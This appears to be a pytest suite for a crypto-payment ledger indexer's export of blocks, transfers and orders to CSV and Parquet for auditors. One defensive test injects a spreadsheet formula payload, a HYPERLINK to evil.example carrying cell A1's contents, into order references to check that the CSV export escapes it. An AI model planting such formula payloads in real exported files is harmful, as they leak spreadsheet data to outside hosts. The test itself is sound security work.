"""What auditors get is the ledger, to the unit, in files that other tools read."""

import asyncio
import csv
import hashlib
import json
import os
import re
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import duckdb
import pytest
from market import BILL, Market, indexing, open_market

from indexer.export import export_ledger
from ledger.json_hex import to_hex
from ledger.order import Status

COMMAND = str(Path(sys.executable).with_name("billcoin-indexer"))
GUIDE = Path(__file__).parents[2] / "docs" / "auditor.md"
HUGE = 2**255 + 1


@pytest.fixture
async def market(ledger_url: str) -> AsyncIterator[Market]:
    async with open_market(ledger_url) as opened:
        order = await opened.order()
        await opened.pay(order.address, BILL + 7)
        await opened.mint(b"\x01" * 20, HUGE)
        async with indexing(opened):
            await opened.until(order.id, Status.PAID)
            await opened.until_tip()
        yield opened


async def exported(market: Market, folder: Path, kind: str) -> None:
    await export_ledger(
        market.ledger,
        chain_id=market.chain.chain_id,
        names=["blocks", "transfers", "orders"],
        kind=kind,
        folder=folder,
        progress=lambda _name, _rows: None,
    )


def csv_rows(path: Path) -> list[tuple[int, str, str, str | None]]:
    with path.open(newline="") as file:
        return [
            (int(r["block_number"]), r["recipient"], r["amount_units"], r["order_id"] or None)
            for r in csv.DictReader(file)
        ]


async def test_both_formats_hold_every_row_exactly(market: Market, tmp_path: Path) -> None:
    await exported(market, tmp_path, "csv")
    await exported(market, tmp_path, "parquet")
    stored = await market.ledger.fetch(
        "SELECT t.*, p.order_id FROM transfer t LEFT JOIN payment p "
        "USING (chain_id, block_hash, log_index) ORDER BY block_number, log_index"
    )
    expected = [
        (row["block_number"], to_hex(row["recipient"]), str(int(row["amount"])), row["order_id"])
        for row in stored
    ]
    assert any(row[2] == str(HUGE) for row in expected)
    assert csv_rows(tmp_path / "transfers.csv") == expected
    found = duckdb.sql(
        "SELECT block_number, recipient, amount_units, order_id "  # noqa: S608 - our own folder
        f"FROM '{tmp_path}/transfers.parquet'"
    ).fetchall()
    assert found == expected
    head = await market.head_number()
    check_manifest(tmp_path, head)


def check_manifest(folder: Path, head: int) -> None:
    manifest = json.loads((folder / "export.json").read_text())
    assert manifest["tipNumber"] == head
    for name, file_ in manifest["files"].items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == file_["sha256"]
    assert not list(folder.glob("*.partial"))


def guide_query() -> str:
    (query,) = re.findall(r"```sql\n(.*?)```", GUIDE.read_text(), re.DOTALL)
    return str(query)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_no_spreadsheet_takes_a_reference_for_a_formula(
    market: Market, tmp_path: Path, start: str
) -> None:
    attack = start + 'HYPERLINK("https://evil.example/?"&A1)'
    await market.ledger.execute("UPDATE orders SET reference = $1", attack)
    await exported(market, tmp_path, "csv")
    await exported(market, tmp_path, "parquet")
    with (tmp_path / "orders.csv").open(newline="") as file:
        assert [row["reference"] for row in csv.DictReader(file)] == ["'" + attack]
    # What only programs read is left as it was written.
    kept = duckdb.read_parquet(str(tmp_path / "orders.parquet")).select("reference").fetchall()
    assert kept == [(attack,)]


async def test_the_guide_s_example_runs(market: Market, tmp_path: Path) -> None:
    await exported(market, tmp_path, "parquet")
    rows = duckdb.sql(guide_query().replace("audit/", f"{tmp_path}/")).fetchall()
    assert rows == [("cafeteria", "paid", 1, 1, str(BILL), str(BILL + 7))]


async def test_the_command_writes_and_refuses_clearly(market: Market, tmp_path: Path) -> None:
    def run(*arguments: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(  # noqa: S603 - our own command
            [COMMAND, "export", "--out", str(tmp_path), *arguments],
            env={"PATH": os.environ["PATH"]} | market.environment(),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    ended = await asyncio.to_thread(run, "--format", "csv", "--what", "blocks", "--json")
    assert ended.returncode == 0, ended.stderr
    assert json.loads(ended.stdout)["files"]["blocks.csv"]["rows"] == await market.head_number() + 1
    refused = await asyncio.to_thread(run, "--what", "blocks,wallets")
    assert refused.returncode == 2
    assert "transfers" in refused.stderr
